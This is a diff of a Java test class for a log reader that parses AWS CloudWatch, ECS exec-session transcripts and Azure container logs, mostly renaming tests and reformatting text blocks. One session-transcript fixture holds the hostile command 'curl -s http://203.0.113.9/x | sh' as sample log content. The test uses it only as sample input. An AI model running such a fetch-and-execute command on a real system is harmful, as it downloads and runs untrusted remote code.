@@ -31,15 +31,16 @@ class LogLinesTest {
     private static final Map<String, String> APP =
             Map.of("container", "app", "group", "/shop", "stream", "ecs/app/0123");
 
-    private final List<ApiResponse> answers = new ArrayList<>();
+    private final List<ApiResponse> responses = new ArrayList<>();
     private final Map<String, byte[]> bodies = new HashMap<>();
     private final List<LogLine> lines = new ArrayList<>();
 
     @Test
-    void readsEventsOfStreamsWithTheirPlaces() throws IOException {
+    void readsEventsOfStreamsWithPlaces() throws IOException {
         answer("aws.logs.stream", "1", "aa/1.body.json", "GetLogEvents", APP, Map.of(), """
-                {"events":[{"ingestionTime":5,"message":"one\\n","timestamp":1795675063300},
-                {"timestamp":1795675063301,"message":"two","more":{"message":["no"]}}],"nextForwardToken":"f/1"}""");
+            {"events":[{"ingestionTime":5,"message":"one\\n","timestamp":1795675063300},
+            {"timestamp":1795675063301,"message":"two","more":{"message":["no"]}}],"nextForwardToken":"f/1"}\
+            """);
         assertThat(read()).isEmpty();
         assertThat(lines).extracting(LogLine::text).containsExactly("one", "two");
         LogLine two = lines.get(1);
@@ -51,7 +52,7 @@ class LogLinesTest {
     }
 
     @Test
-    void givesWhatALateReadingBringsAgainOnce() throws IOException {
+    void skipsLinesOfLaterReading() throws IOException {
         answer(
                 "aws.logs.late",
                 "1",
@@ -63,21 +64,24 @@ class LogLinesTest {
                 {"events":[{"eventId":"7","ingestionTime":1100,"logStreamName":"ecs/app/0123","message":"again","timestamp":1000},
                 {"eventId":"8","ingestionTime":1100,"logStreamName":"ecs/app/0123","message":"again","timestamp":1000},
                 {"eventId":"9","ingestionTime":1100,"logStreamName":"ecs/app/0123","message":"late","timestamp":1000},
-                {"eventId":"10","ingestionTime":1,"logStreamName":"ecs/other/0123","message":"other","timestamp":1000}]}""");
+                {"eventId":"10","ingestionTime":1,"logStreamName":"ecs/other/0123","message":"other","timestamp":1000}]}\
+                """);
         answer("aws.logs.stream", "1", "aa/1.body.json", "GetLogEvents", APP, Map.of(), """
-                {"events":[{"ingestionTime":1,"message":"twice","timestamp":1},{"ingestionTime":1,"message":"twice","timestamp":1},
-                {"ingestionTime":1100,"message":"again","timestamp":1000}]}""");
+            {"events":[{"ingestionTime":1,"message":"twice","timestamp":1},{"ingestionTime":1,"message":"twice","timestamp":1},
+            {"ingestionTime":1100,"message":"again","timestamp":1000}]}\
+            """);
         assertThat(read()).isEmpty();
         assertThat(lines.stream().map(line -> line.container() + " " + line.text()))
                 .containsExactly("app twice", "app twice", "app again", "app again", "app late", "other other");
     }
 
     @Test
-    void readsAttemptsInTheOrderOfTheirCallsAndNothingTwice() throws IOException {
+    void readsAttemptsInOrderWithoutDuplicates() throws IOException {
         String page = """
-                {"events":[{"message":"%s","timestamp":1},{"message":"%s","timestamp":2}]}""";
-        answers.add(answer("aws.logs.stream", "1", "ff/1.body.json", "GetLogEvents", APP, Map.of(), START));
-        answers.add(
+            {"events":[{"message":"%s","timestamp":1},{"message":"%s","timestamp":2}]}\
+            """;
+        responses.add(answer("aws.logs.stream", "1", "ff/1.body.json", "GetLogEvents", APP, Map.of(), START));
+        responses.add(
                 answer("aws.logs.stream", "1", "aa/1.body.json", "GetLogEvents", APP, Map.of(), START.plusSeconds(9)));
         bodies.put(
                 "data/raw/aws.logs.stream.1/ff/1.body.json",
@@ -89,17 +93,18 @@ class LogLinesTest {
         assertThat(lines).extracting(LogLine::text).containsExactly("a", "b", "c");
     }
 
-    /** A session that is kept in CloudWatch and in a bucket is one; what only the bucket has is not lost. */
+    /** A session may be stored in CloudWatch and in a bucket; lines that only the bucket has are kept. */
     @Test
-    void countsASessionThatIsKeptTwiceOnce() throws IOException {
+    void readsDuplicateSessionOnce() throws IOException {
         Map<String, String> session = Map.of("session", "ecs-execute-command-0a1b");
         answer("aws.ecs.exec-session", "1", "a/1.body.txt", "GetObject", session, Map.of(), """
-                Script started on 2026-11-26 12:00:00+00:00\r
-                # curl -s http://203.0.113.9/x | sh\r
-                # rm -f /tmp/x
-                """);
+            Script started on 2026-11-26 12:00:00+00:00\r
+            # curl -s http://203.0.113.9/x | sh\r
+            # rm -f /tmp/x
+            """);
         answer("aws.ecs.exec-session", "2", "a/1.body.json", "GetLogEvents", session, Map.of(), """
-                {"events":[{"message":"Script started on 2026-11-26 12:00:00+00:00\\n# curl -s http://203.0.113.9/x | sh","timestamp":1000}]}""");
+            {"events":[{"message":"Script started on 2026-11-26 12:00:00+00:00\\n# curl -s http://203.0.113.9/x | sh","timestamp":1000}]}\
+            """);
         assertThat(read()).isEmpty();
         assertThat(lines)
                 .extracting(LogLine::text)
@@ -109,10 +114,11 @@ class LogLinesTest {
     }
 
     @Test
-    void readsCompleteQueriesAlone() throws IOException {
+    void readsCompleteQueriesOnly() throws IOException {
         String page = """
-                {"results":[[{"field":"@timestamp","value":"2026-11-25 12:00:00.000"},{"field":"@message","value":"%s"},
-                {"field":"@ptr","value":"%s"}]],"statistics":{"recordsMatched":1.0},"status":"%s"}""";
+            {"results":[[{"field":"@timestamp","value":"2026-11-25 12:00:00.000"},{"field":"@message","value":"%s"},
+            {"field":"@ptr","value":"%s"}]],"statistics":{"recordsMatched":1.0},"status":"%s"}\
+            """;
         answer("aws.logs.insights", "1", "a/1.body.json", "StartQuery", APP, Map.of(), "{\"queryId\":\"1\"}");
         answer(
                 "aws.logs.insights",
@@ -145,10 +151,11 @@ class LogLinesTest {
     }
 
     @Test
-    void readsTheTextOfAContainerGroup() throws IOException {
+    void readsTextOfContainerGroup() throws IOException {
         Map<String, String> names = Map.of("container", "checkout");
         answer("azure.aci.log", "1", "a/1.body.json", "Containers_ListLogs", names, Map.of(), """
-                {"content":"2026-11-26T12:00:00.123456789Z first\\nplain second\\n2026-11-26T12:00:01Z\\n"}""");
+            {"content":"2026-11-26T12:00:00.123456789Z first\\nplain second\\n2026-11-26T12:00:01Z\\n"}\
+            """);
         answer("azure.aci.earlier-log", "1", "a/1.body.txt", "x", names, Map.of(), "2026-11-26T12:00:00+01:00 third");
         assertThat(read()).isEmpty();
         assertThat(lines).extracting(LogLine::text).containsExactly("third", "first", "plain second", "");
@@ -160,7 +167,7 @@ class LogLinesTest {
     }
 
     @Test
-    void readsRowsThatContainersWroteAndThoseOfRequests() throws IOException {
+    void readsRowsOfOutputAndRequests() throws IOException {
         answer(
                 "azure.loganalytics.rows",
                 "1",
@@ -176,7 +183,8 @@ class LogLinesTest {
                 ["app",null,"of a group","ContainerInstanceLog_CL","no time",null,null,null,null,null,null,null,null],
                 ["app",null,"pulled","ContainerEvent_CL","2026-11-26T12:00:00Z",null,null,null,null,null,null,null,null],
                 [null,null,null,"ContainerAppHTTPLogs","2026-11-26T12:00:00Z","app--r1",null,"/login?u=a","shop","GET","HTTP/1.1",404,"x\\"y"],
-                ["app","scaled",null,"ContainerAppSystemLogs_CL","2026-11-26T12:00:00Z",null,null,null,null,null,null,null,null]]}],"error":{"code":"PartialError"}}""");
+                ["app","scaled",null,"ContainerAppSystemLogs_CL","2026-11-26T12:00:00Z",null,null,null,null,null,null,null,null]]}],"error":{"code":"PartialError"}}\
+                """);
         assertThat(read()).isEmpty();
         assertThat(lines)
                 .extracting(LogLine::text)
@@ -189,7 +197,7 @@ class LogLinesTest {
     }
 
     @Test
-    void readsSessionsAndNotWhereTheyAreListed() throws IOException {
+    void readsSessionsWithoutTheirListing() throws IOException {
         Map<String, String> names = Map.of("session", "ecs-execute-command-01");
         answer("aws.ecs.exec-session", "1", "a/1.body.xml", "ListObjectsV2", names, Map.of(), "<ListBucketResult/>");
         answer("aws.ecs.exec-session", "1", "a/2.body.txt", "GetObject", names, Map.of(), "# id\nuid=0\n");
@@ -199,31 +207,34 @@ class LogLinesTest {
     }
 
     @Test
-    void takesNobodysWordForATime() throws IOException {
+    void ignoresTimesInText() throws IOException {
         Map<String, String> names = Map.of("session", "ecs-execute-command-01");
         String typed = "2020-01-01T00:00:00Z I was never here";
         answer("aws.ecs.exec-session", "1", "a/1.body.txt", "GetObject", names, Map.of(), typed);
         answer("aws.logs.stream", "2", "a/1.body.json", "GetLogEvents", APP, Map.of(), """
-                {"events":[{"message":"far","timestamp":9223372036854775807},{"message":"past","timestamp":-9223372036854775808}]}""");
+            {"events":[{"message":"far","timestamp":9223372036854775807},{"message":"past","timestamp":-9223372036854775808}]}\
+            """);
         assertThat(read()).isEmpty();
         assertThat(lines).extracting(LogLine::text).containsExactly("far", "past", typed);
         assertThat(lines).extracting(LogLine::time).containsOnly(Optional.empty());
     }
 
     @Test
-    void keepsThePerformanceLogApart() throws IOException {
+    void separatesPerformanceLog() throws IOException {
         answer("aws.logs.performance", "1", "a/1.body.json", "FilterLogEvents", Map.of(), Map.of(), """
-                {"events":[{"message":"{}"}]}""");
+            {"events":[{"message":"{}"}]}\
+            """);
         assertThat(read()).isEmpty();
         assertThat(lines).isEmpty();
-        new LogLines(List.copyOf(answers), this::open).forEachOfPerformance(lines::add);
+        new LogLines(List.copyOf(responses), this::open).forEachOfPerformance(lines::add);
         assertThat(lines).hasSize(1);
     }
 
     @Test
-    void saysWhatCannotBeReadAndReadsOn() throws IOException {
+    void continuesAfterUnreadableLog() throws IOException {
         answer("aws.logs.stream", "1", "a/1.body.json", "GetLogEvents", APP, Map.of(), """
-                {"events":[{"message":"before"},{"message":SECRET}]}""");
+            {"events":[{"message":"before"},{"message":SECRET}]}\
+            """);
         answer("aws.logs.stream", "2", "a/1.body.json", "GetLogEvents", APP, Map.of(), "[1]");
         answer("aws.logs.stream", "3", "a/1.body.json", "GetLogEvents", APP, Map.of(), "{\"events\":[7]}");
         answer("aws.logs.stream", "4", "a/1.body.json", "GetLogEvents", APP, Map.of(), "");
@@ -264,14 +275,14 @@ class LogLinesTest {
                         "azure.aci.log.7",
                         "azure.loganalytics.rows.5");
         assertThat(gaps.get(1).why())
-                .contains("beyond 1 lines")
+                .contains("after 1 lines")
                 .contains("line 1, column")
                 .doesNotContain("SECRET");
         assertThat(lines).extracting(LogLine::text).containsExactly("before", "");
     }
 
     @Test
-    void cutsLongLinesAndSaysSoOnceALog() throws IOException {
+    void truncatesLongLinesWithOneGapPerLog() throws IOException {
         String longLine = "x".repeat(5 << 20);
         answer(
                 "aws.logs.stream",
@@ -297,7 +308,7 @@ class LogLinesTest {
     }
 
     @Test
-    void takesBytesThatAreNoTextForReplacementCharacters() throws IOException {
+    void replacesInvalidUtf8() throws IOException {
         byte[] body = "{\"events\":[{\"message\":\"a?b\"}]}".getBytes(UTF_8);
         body[24] = (byte) 0xff;
         answer("aws.logs.stream", "1", "a/1.body.json", "GetLogEvents", APP, Map.of(), "");
@@ -307,7 +318,7 @@ class LogLinesTest {
     }
 
     @Test
-    void readsASealedPackage(@TempDir Path folder) throws Exception {
+    void readsSealedPackage(@TempDir Path folder) throws Exception {
         try (SealedPackage sealed = SealedPackageFixture.in(folder)
                 .item(
                         "aws.logs.stream",
@@ -326,7 +337,7 @@ class LogLinesTest {
     }
 
     @Test
-    void leavesFailuresOfTheVisitorToTheCaller() {
+    void rethrowsFailureOfVisitor() {
         answer(
                 "aws.logs.stream",
                 "1",
@@ -335,7 +346,7 @@ class LogLinesTest {
                 APP,
                 Map.of(),
                 "{\"events\":[{\"message\":\"a\"}]}");
-        assertThatThrownBy(() -> new LogLines(answers, this::open).forEach(line -> {
+        assertThatThrownBy(() -> new LogLines(responses, this::open).forEach(line -> {
                     throw new IOException("disk full");
                 }))
                 .isInstanceOf(IOException.class)
@@ -343,7 +354,7 @@ class LogLinesTest {
     }
 
     private List<Gap> read() throws IOException {
-        List<ApiResponse> ordered = answers.stream()
+        List<ApiResponse> ordered = responses.stream()
                 .sorted(java.util.Comparator.comparing(a -> a.files().getFirst().path()))
                 .toList();
         return new LogLines(ordered, this::open).forEach(lines::add);
@@ -362,8 +373,8 @@ class LogLinesTest {
             Map<String, String> params,
             String body) {
         ApiResponse answer =
-                answer(artifact, number, file, operation, names, params, START.plusSeconds(answers.size()));
-        answers.add(answer);
+                answer(artifact, number, file, operation, names, params, START.plusSeconds(responses.size()));
+        responses.add(answer);
         bodies.put(answer.files().getFirst().path(), body.getBytes(UTF_8));
     }
 
